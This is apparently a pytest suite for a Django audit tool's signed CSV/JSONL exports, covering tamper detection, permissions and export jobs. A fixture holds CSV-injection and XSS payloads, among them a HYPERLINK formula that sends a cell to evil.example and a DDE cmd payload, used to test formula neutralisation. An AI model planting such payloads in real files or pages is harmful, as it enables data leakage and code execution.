"""Exports of decision searches: the rows of the search, nothing else; a manifest that vouches for
the bytes; formulas neutralised and hostile text intact; large exports as Celery jobs."""
import base64
import csv
import hashlib
import io
import json
import subprocess
import sys
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from django.http import QueryDict
from django.utils import timezone
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from audit.filters import DecisionFilter
from core.models import Decision, Outcome
from exports import services as exports
from exports import signing
from exports import verify_gavel_export as verifier
from exports.formats import HEADER, count_rows
from exports.models import ExportRecord
from tests.exports.archives import unpack
from tests.factories import DecisionFactory, PolicyFactory
from tests.support import wait_until

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def auditor(make_user):
    return make_user("auditor", username="avery")


@pytest.fixture
def auditor_client(client, auditor):
    client.force_login(auditor)
    return client


@pytest.fixture
def export_dir(settings, tmp_path):
    settings.GAVEL_EXPORT_DIR = tmp_path / "exports"
    return settings.GAVEL_EXPORT_DIR


def some_decisions():
    now = timezone.now()
    gateway = PolicyFactory(name="agent_gateway")
    DecisionFactory.create_batch(3, policy=gateway, outcome=Outcome.DENY, reasons=["token budget exceeded"],
                                 effective_mode="enforce", timestamp=now - timedelta(hours=2))
    DecisionFactory.create_batch(2, policy=gateway, outcome=Outcome.WOULD_DENY, reasons=["tool not allowed"],
                                 effective_mode="dry-run", timestamp=now - timedelta(days=2))
    DecisionFactory.create_batch(4, path="gavel/platform_changes/decision", timestamp=now - timedelta(minutes=5))
    return now


def export(client, query="", fmt="csv", **extra):
    """Export a search from the audit page's form: the data file out of the streamed archive, and its record."""
    response = client.post("/audit/exports/new/", {"query": query, "format": fmt, **extra})
    assert response.status_code == 200, response
    assert response["Content-Type"] == "application/zip"
    data, manifest = unpack(b"".join(response.streaming_content))
    record = ExportRecord.objects.get(pk=response["X-Gavel-Export"])
    assert response["Content-Disposition"] == f'attachment; filename="{record.archive_name}"'
    assert manifest == exports.manifest(record)  # the archive carries the signed manifest
    return data, record


def stored_by(record) -> str:
    return f"decisions Gavel had stored by {record.as_of.isoformat().replace('+00:00', 'Z')}"


def rows_in(fmt, body: bytes) -> int:
    return count_rows(fmt, io.BytesIO(body))


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@pytest.mark.parametrize("query", [
    "",
    "outcome=deny",
    "outcome=would_deny&effective_mode=dry-run",
    "policy=agent_gateway&q=BUDGET",
    "path=gavel/platform_changes",
    "since={since}",
    "outcome=require_approval",
])
def test_exported_rows_are_the_rows_the_search_counts(auditor_client, query, fmt):
    now = some_decisions()
    query = query.format(since=(now - timedelta(days=1)).isoformat().replace("+00:00", "Z"))

    body, record = export(auditor_client, query, fmt)

    searched = DecisionFilter(QueryDict(query), queryset=Decision.objects.all()).qs.count()
    on_the_page = auditor_client.get(f"/audit/?{query}").context["page"].paginator.count
    assert rows_in(fmt, body) == searched == on_the_page == record.row_count
    # The record was finalised once the last byte left: its hash is the hash of what was sent.
    assert record.status == ExportRecord.Status.DONE
    assert record.sha256 == hashlib.sha256(body).hexdigest() and record.size_bytes == len(body)


@pytest.mark.django_db
def test_the_filter_in_words_survives_someone_reading_the_api_schema(auditor_client):
    """Reading /api/v1/schema/ once used to leave django-filter's derived labels as None, so
    every later manifest said "None: Deny"."""
    some_decisions()
    assert auditor_client.get("/api/v1/schema/").status_code == 200
    _, record = export(auditor_client, "outcome=deny&policy=agent_gateway", "csv")
    assert record.readable_filter == f"Outcome: Deny; Policy: agent_gateway; {stored_by(record)}"
    for page in ("/audit/exports/", f"/audit/exports/{record.pk}/"):
        assert "None:" not in auditor_client.get(page).content.decode()


def test_the_manifest_says_what_was_asked_who_asked_and_what_came_out(auditor_client):
    now = some_decisions()
    body, record = export(auditor_client, "outcome=deny&policy=agent_gateway&page=3&bogus=1", "jsonl")

    manifest = json.loads(auditor_client.get(f"/audit/exports/{record.pk}/manifest.json").content)

    assert manifest["filter"]["query"] == "outcome=deny&policy=agent_gateway"  # only the filter's own fields
    assert manifest["filter"]["readable"] == f"Outcome: Deny; Policy: agent_gateway; {stored_by(record)}"
    assert manifest["signature"]["algorithm"] == "Ed25519" and manifest["signature"]["public_key"] == signing.public_key()
    assert manifest["row_count"] == 3 and manifest["format"] == "jsonl" and manifest["delivery"] == "stream"
    assert manifest["sha256"] == hashlib.sha256(body).hexdigest()
    assert manifest["exported_by"] == "avery" and manifest["gavel_version"] == exports.gavel_version()
    timestamps = [json.loads(line)["timestamp"] for line in body.decode().splitlines()]
    assert manifest["time_range"] == {"first": timestamps[0], "last": timestamps[-1]}
    assert timestamps == sorted(timestamps) and timestamps[0].startswith(str((now - timedelta(hours=2)).date()))


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_tampered_file_or_manifest_fails_verify_and_the_untampered_one_passes(auditor_client, tmp_path, fmt):
    some_decisions()
    body, record = export(auditor_client, "outcome=deny", fmt)
    file, manifest = tmp_path / record.download_name, tmp_path / "manifest.json"
    file.write_bytes(body)
    manifest.write_bytes(auditor_client.get(f"/audit/exports/{record.pk}/manifest.json").content)
    key = signing.public_key()

    def check():
        return verifier.verify([str(file), str(manifest)], key)[:2]

    assert check() == (verifier.GOOD, [])

    file.write_bytes(body.replace(b"token budget exceeded", b"token budget is fine!", 1))
    status, problems = check()
    assert status == verifier.TAMPERED and "SHA-256 is" in problems[0]

    # One decision quietly removed: the hash, the size and the row count all disagree.
    lines = body.decode().splitlines(keepends=True)
    file.write_text("".join(lines[:-1]), encoding="utf-8")
    status, problems = check()
    assert status == verifier.TAMPERED and "has 2 rows, the manifest says 3" in problems[-1]

    # The manifest edited to match the shortened file: its signature no longer holds.
    edited = json.loads(manifest.read_text())
    edited.update(sha256=hashlib.sha256(file.read_bytes()).hexdigest(), size_bytes=file.stat().st_size, row_count=2)
    manifest.write_text(json.dumps(edited))
    status, problems = check()
    assert status == verifier.TAMPERED and "changed after Gavel signed it" in problems[0]


def run_verifier(tmp_path, *args):
    """The stand-alone verifier as an auditor runs it: a copy outside the project, Python in isolated
    mode (no project on the path, no environment), Gavel and Django made unimportable."""
    script = tmp_path / "verify_gavel_export.py"
    script.write_bytes((ROOT / "exports" / "verify_gavel_export.py").read_bytes())
    guard = ("import sys, runpy\n"
             "for name in ('django', 'exports', 'core', 'audit', 'console', 'psycopg'): sys.modules[name] = None\n"
             f"sys.argv = [{str(script)!r}, *sys.argv[1:]]\n"
             f"runpy.run_path({str(script)!r}, run_name='__main__')\n")
    return subprocess.run([sys.executable, "-I", "-c", guard, *map(str, args)], cwd=tmp_path, env={},
                          capture_output=True, text=True, timeout=60)


@pytest.mark.django_db
def test_the_stand_alone_verifier_exits_0_good_1_tampered_2_cannot_check(auditor_client, tmp_path):
    some_decisions()
    response = auditor_client.post("/audit/exports/new/", {"query": "outcome=deny", "format": "csv"})
    archive = tmp_path / "gavel-export.zip"
    archive.write_bytes(b"".join(response.streaming_content))
    key_file = tmp_path / "key.txt"
    key_file.write_bytes(auditor_client.get("/audit/exports/public-key.txt").content)
    assert key_file.read_text().strip() == signing.public_key()

    good = run_verifier(tmp_path, archive, "--public-key", key_file)
    assert good.returncode == 0, good.stderr
    assert "GOOD" in good.stdout and "3 rows" in good.stdout and "Outcome: Deny" in good.stdout

    data, manifest = unpack(archive.read_bytes())
    with zipfile.ZipFile(archive) as original:
        names = original.namelist()
    tampered = tmp_path / "tampered.zip"
    with zipfile.ZipFile(tampered, "w") as copy:
        copy.writestr(names[0], data.replace(b"token budget exceeded", b"token budget is fine!", 1))
        copy.writestr(names[1], json.dumps(manifest))
    refused = run_verifier(tmp_path, tampered, "--public-key", signing.public_key())
    assert refused.returncode == 1 and "TAMPERED" in refused.stderr and "SHA-256" in refused.stderr

    other_key = base64.b64encode(Ed25519PrivateKey.generate().public_key().public_bytes_raw()).decode()
    wrong = run_verifier(tmp_path, archive, "--public-key", other_key)
    assert wrong.returncode == 1 and f"signed by key {manifest['signature']['key_id']}" in wrong.stderr

    unsigned = tmp_path / "unsigned.zip"
    with zipfile.ZipFile(unsigned, "w") as copy:
        copy.writestr(names[0], data)
        copy.writestr(names[1], json.dumps({k: v for k, v in manifest.items() if k != "signature"}))
    cannot = run_verifier(tmp_path, unsigned, "--public-key", signing.public_key())
    assert cannot.returncode == 2 and "unsigned" in cannot.stderr
    for args in ([archive],  # no public key
                 [tmp_path / "missing.zip", "--public-key", signing.public_key()],
                 [archive, tmp_path / "missing.manifest.json", "--public-key", signing.public_key()]):
        assert run_verifier(tmp_path, *args).returncode == 2, args


def test_without_debug_a_missing_or_malformed_signing_key_is_a_clear_error():
    env = {"PATH": "/usr/bin:/bin", "DEBUG": "0", "SECRET_KEY": "x" * 50, "GAVEL_OPA_TOKEN": "t" * 30,
           "DATABASE_URL": "postgres://nobody@127.0.0.1:9/none"}
    for key, said in ((None, "GAVEL_EXPORT_SIGNING_KEY must be set when DEBUG is off"),
                      ("not-a-key", "GAVEL_EXPORT_SIGNING_KEY is not usable as the Ed25519 key")):
        run = subprocess.run([sys.executable, "manage.py", "check"], cwd=ROOT, capture_output=True, text=True,
                             env={**env, **({"GAVEL_EXPORT_SIGNING_KEY": key} if key else {})}, timeout=60)
        assert run.returncode != 0 and said in run.stderr


HOSTILE_REASONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "<script>alert('x')</script>",
    "first line\nsecond line\r\nthird",
    'she said "no", twice',
    "\u202eright-to-left override\u200b zero width, emoji \U0001F680, line sep \u2028 para sep \u2029 done",
]


@pytest.mark.django_db
def test_csv_neutralises_formulas_and_hostile_strings_round_trip(auditor_client):
    decision = DecisionFactory(
        decision_id="=1+1", outcome=Outcome.DENY, reasons=HOSTILE_REASONS, user="@SUM(A1:A9)", agent="-2+3",
        resource="\tsheet", action="<img src=x onerror=alert(1)>",
        input={"note": HOSTILE_REASONS[-1], "html": "</td><script>x</script>", "q": "=cmd"},
    )

    body, _ = export(auditor_client, "", "csv")
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))

    assert len(rows) == 1 and list(rows[0]) == HEADER
    row = rows[0]
    # A spreadsheet would run these as formulas: each leaves prefixed with a quote.
    assert row["decision_id"] == "'=1+1" and row["user"] == "'@SUM(A1:A9)" and row["agent"] == "'-2+3"
    assert row["resource"] == "'\tsheet"
    # Everything else comes back exactly: lists and documents are JSON inside their cell.
    assert row["action"] == decision.action
    assert json.loads(row["reasons"]) == HOSTILE_REASONS
    assert json.loads(row["input"]) == decision.input
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


@pytest.mark.django_db
def test_jsonl_keeps_one_decision_per_line_and_hostile_strings_intact(auditor_client):
    hostile = DecisionFactory(reasons=HOSTILE_REASONS, user="=evil", input={"note": HOSTILE_REASONS[-1]})
    DecisionFactory(timestamp=hostile.timestamp + timedelta(seconds=1))

    body, record = export(auditor_client, "", "jsonl")

    text = body.decode("utf-8")
    # Even readers that split on U+2028/2029 (Python's splitlines) see one line per decision.
    assert len(text.splitlines()) == 2 == record.row_count
    first = json.loads(text.splitlines()[0])
    assert first["reasons"] == HOSTILE_REASONS and first["user"] == "=evil"  # data, not a cell: unchanged
    assert first["input"] == {"note": HOSTILE_REASONS[-1]}


@pytest.mark.django_db
def test_an_interrupted_download_is_recorded_as_incomplete_with_no_hash_and_no_file(auditor, export_dir, tmp_path):
    DecisionFactory.create_batch(120, input={"padding": "x" * 1000})  # well over one 64 KiB chunk
    record = exports.start_export(auditor, "", "jsonl")
    assert record.delivery == ExportRecord.Delivery.STREAM
    chunks = exports.stream_export(record)  # what the streamed response sends
    next(chunks)
    chunks.close()  # the browser went away: the server closes the response, and so its iterator

    record = ExportRecord.objects.get()
    assert record.status == ExportRecord.Status.INCOMPLETE and record.sha256 == "" and not record.has_file
    assert 0 < record.row_count < 120 and not list(export_dir.iterdir())
    manifest = tmp_path / "manifest.json"
    manifest.write_text(exports.manifest_json(record))
    assert verifier.verify([__file__, str(manifest)], signing.public_key())[:2] == (verifier.CANNOT_CHECK, [
        "the export did not finish (status 'incomplete'), so there is nothing to check"])
    assert Decision.objects.count() == 120  # the connection is usable: the COPY was ended cleanly


@pytest.mark.django_db
@pytest.mark.parametrize("data, message", [
    ({"query": "since=last+tuesday", "format": "csv"}, "Fix the filters: since"),
    ({"query": "outcome=maybe", "format": "csv"}, "Fix the filters: outcome"),
    ({"query": "", "format": "xlsx"}, "Unknown format 'xlsx'"),
    ({"query": "q=%00", "format": "csv"}, "NUL character"),
    ({"query": "", "format": "csv", "as_of": "2999-01-01T00:00:00Z"}, "is in the future"),
    ({"query": "", "format": "csv", "as_of": "last tuesday"}, "is not a date and time"),
])
def test_bad_input_is_refused_and_records_nothing(auditor_client, data, message):
    response = auditor_client.post("/audit/exports/new/", data)
    assert response.status_code == 400 and message in response.content.decode()
    assert not ExportRecord.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("role", ["security_admin", "reviewer", "policy_author", "compliance_officer"])
def test_only_roles_allowed_to_export_may_export(client, make_user, export_dir, role):
    DecisionFactory()
    user = make_user(role)
    client.force_login(user)
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    finished = exports.run_job(exports.start_export(make_user("auditor"), "", "csv", as_job=True).pk)

    assert client.post("/audit/exports/new/", {"query": "", "format": "csv"}).status_code == 403
    assert client.get(f"/audit/exports/{finished.pk}/download/").status_code == 403
    assert api.post("/api/v1/exports/", {"query": "", "format": "csv"}, format="json").status_code == 403
    assert api.get(f"/api/v1/exports/{finished.pk}/download/").status_code == 403
    assert ExportRecord.objects.count() == 1
    # Security admins oversee exports: they see the record and its manifest, not the data.
    oversees = 200 if role == "security_admin" else 403
    assert client.get("/audit/exports/").status_code == oversees
    assert client.get(f"/audit/exports/{finished.pk}/manifest.json").status_code == oversees


@pytest.mark.django_db
def test_the_audit_page_offers_the_export_of_its_search_to_auditors_only(client, make_user):
    DecisionFactory(outcome=Outcome.DENY)
    client.force_login(make_user("auditor"))
    form = client.get("/audit/", {"outcome": "deny", "q": ""}).content.decode()
    assert 'data-testid="export-form"' in form and 'name="query" value="outcome=deny' in form
    client.force_login(make_user("reviewer"))
    assert 'data-testid="export-form"' not in client.get("/audit/").content.decode()


@pytest.mark.django_db
def test_a_job_page_polls_its_progress_until_done_then_offers_the_file(auditor_client, auditor, export_dir):
    DecisionFactory.create_batch(3)
    record = exports.start_export(auditor, "", "jsonl", as_job=True)  # not committed: no worker runs it here

    running = auditor_client.get(f"/audit/exports/{record.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert 'hx-trigger="every 1s"' in running and "<progress" in running and "0 of 3 rows" in running

    exports.run_job(record.pk)
    done = auditor_client.get(f"/audit/exports/{record.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" not in done and "<progress" not in done
    assert f"/audit/exports/{record.pk}/download/" in done and "3 rows" in done
    assert exports.run_job(record.pk).sha256 == ExportRecord.objects.get(pk=record.pk).sha256  # idempotent


@pytest.mark.django_db
def test_a_job_that_cannot_write_its_file_fails_with_the_reason(auditor_client, auditor, settings, tmp_path):
    DecisionFactory()
    settings.GAVEL_EXPORT_DIR = tmp_path / "not-a-directory"
    settings.GAVEL_EXPORT_DIR.write_text("a file where the export directory should be")

    record = exports.run_job(exports.start_export(auditor, "", "csv", as_job=True).pk)

    assert record.status == ExportRecord.Status.FAILED and "not-a-directory" in record.error
    assert record.sha256 == "" and list(tmp_path.iterdir()) == [settings.GAVEL_EXPORT_DIR]
    status = auditor_client.get(f"/audit/exports/{record.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" not in status and "Failed" in status
    assert auditor_client.get(f"/audit/exports/{record.pk}/download/").status_code == 404


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("how", ["asked as a job", "over the streaming threshold"])
def test_a_job_writes_a_file_whose_manifest_verifies(client, make_user, celery_worker, export_dir, settings,
                                                     tmp_path, how):
    DecisionFactory.create_batch(5, outcome=Outcome.DENY, reasons=["=bad", "ok"])
    DecisionFactory.create_batch(2)
    client.force_login(make_user("auditor"))
    extra = {"as_job": "1"} if how == "asked as a job" else {}
    settings.GAVEL_EXPORT_STREAM_MAX_ROWS = 1000 if extra else 4

    started = client.post("/audit/exports/new/", {"query": "outcome=deny", "format": "csv", **extra})

    record = ExportRecord.objects.get()
    assert started.status_code == 302 and started.url == f"/audit/exports/{record.pk}/"
    assert record.delivery == ExportRecord.Delivery.JOB and record.expected_rows == 5
    wait_until(lambda: ExportRecord.objects.get(pk=record.pk).status == ExportRecord.Status.DONE,
               message="the export job to finish")
    archive = tmp_path / record.archive_name
    archive.write_bytes(b"".join(client.get(f"/audit/exports/{record.pk}/download/").streaming_content))
    data, manifest = unpack(archive.read_bytes())
    assert manifest["row_count"] == 5 == rows_in("csv", data) and manifest["delivery"] == "job"
    assert verifier.verify([str(archive)], signing.public_key())[0] == verifier.GOOD
    assert not list(export_dir.glob("*.part"))


@pytest.mark.django_db
def test_the_api_lists_every_export_and_runs_jobs(make_user, export_dir):
    DecisionFactory.create_batch(2, outcome=Outcome.DENY)
    DecisionFactory()
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=make_user('auditor')).key}")

    started = api.post("/api/v1/exports/", {"query": "outcome=deny", "format": "jsonl"}, format="json")
    assert started.status_code == 202 and started.json()["status"] == "queued"
    exports.run_job(started.json()["id"])  # what the worker does once the request has committed
    streamed = api.post("/api/v1/exports/", {"query": "", "format": "csv", "as_job": False}, format="json")
    assert rows_in("csv", unpack(b"".join(streamed.streaming_content))[0]) == 3

    listed = api.get("/api/v1/exports/").json()["results"]
    assert [(r["delivery"], r["status"], r["row_count"]) for r in listed] == [("stream", "done", 3),
                                                                             ("job", "done", 2)]
    job = listed[1]
    download, manifest = unpack(b"".join(api.get(f"/api/v1/exports/{job['id']}/download/").streaming_content))
    assert hashlib.sha256(download).hexdigest() == job["manifest"]["sha256"] == manifest["sha256"]
    refused = api.post("/api/v1/exports/", {"query": "until=yesterday", "format": "jsonl"}, format="json")
    assert refused.status_code == 400 and "until" in str(refused.json()["query"])


def test_every_auditor_may_download_any_job_export_and_nobody_else(client, make_user, export_dir):
    """The stated rule (README, "Exports"): any auditor could export the same search, so every
    auditor may download any export's file; security admins see records and manifests only."""
    DecisionFactory.create_batch(2)
    owner = make_user("auditor")
    record = exports.run_job(exports.start_export(owner, "", "csv", as_job=True).pk)
    expected = record.sha256

    def api_as(user):
        api = APIClient()
        api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
        return api.get(f"/api/v1/exports/{record.pk}/download/")

    def page_as(user):
        client.force_login(user)
        return client.get(f"/audit/exports/{record.pk}/download/")

    for user in (owner, make_user("auditor")):
        for response in (api_as(user), page_as(user)):
            assert response.status_code == 200
            assert hashlib.sha256(unpack(b"".join(response.streaming_content))[0]).hexdigest() == expected
    for role in ("security_admin", "policy_author", "reviewer", "compliance_officer"):
        user = make_user(role)
        assert (api_as(user).status_code, page_as(user).status_code) == (403, 403), role
